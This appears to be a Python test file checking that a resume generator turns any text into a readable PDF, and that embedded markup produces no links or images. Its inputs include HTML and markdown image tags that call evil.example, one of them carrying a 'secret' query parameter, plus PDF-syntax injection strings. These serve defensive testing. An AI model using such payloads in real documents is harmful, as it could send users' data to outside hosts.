"""Whatever text a person or a page brings, a document comes of it that can be opened and read (A38, A72)."""

from datetime import UTC, datetime

import pypdfium2 as pdfium
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from companion.model.profile import Basics, Profile, Work
from companion.model.resume import Resume
from companion.resume import base_resume, read_back, render

THEN = datetime(2026, 3, 2, tzinfo=UTC)


def document(text: str) -> Resume:
    profile = Profile(
        id="p", basics=Basics(name="Ada Muster", summary=text), work=(Work(name=text, highlights=(text,)),)
    )
    return base_resume(profile, created_at=THEN)


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=120))
@example("\x7f")
@example("\u0892")
@example("\u202e\u200f⁦🦩")
def test_any_text_gives_a_pdf_that_can_be_read(text: str) -> None:
    assert len(pdfium.PdfDocument(render(document(text)))) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "**bold** __line__ ~~gone~~ --under--",
        "<b>bold</b> <font color='red'>red</font> <img src='https://evil.example/x.png'>",
        "![x](https://evil.example/?q=secret) [click](https://evil.example/)",
        "{nb} {total} %PDF-1.7 endstream endobj (unbalanced \\) << >>",
        "word " * 60,
    ],
)
def test_marks_are_text_and_link_nowhere(text: str) -> None:
    resume = document(text)
    pdf = render(resume)
    assert read_back(pdf, resume).lost == ()
    assert b"/URI" not in pdf
    assert b"/Image" not in pdf.replace(b"/ImageB", b"").replace(b"/ImageC", b"").replace(b"/ImageI", b"")
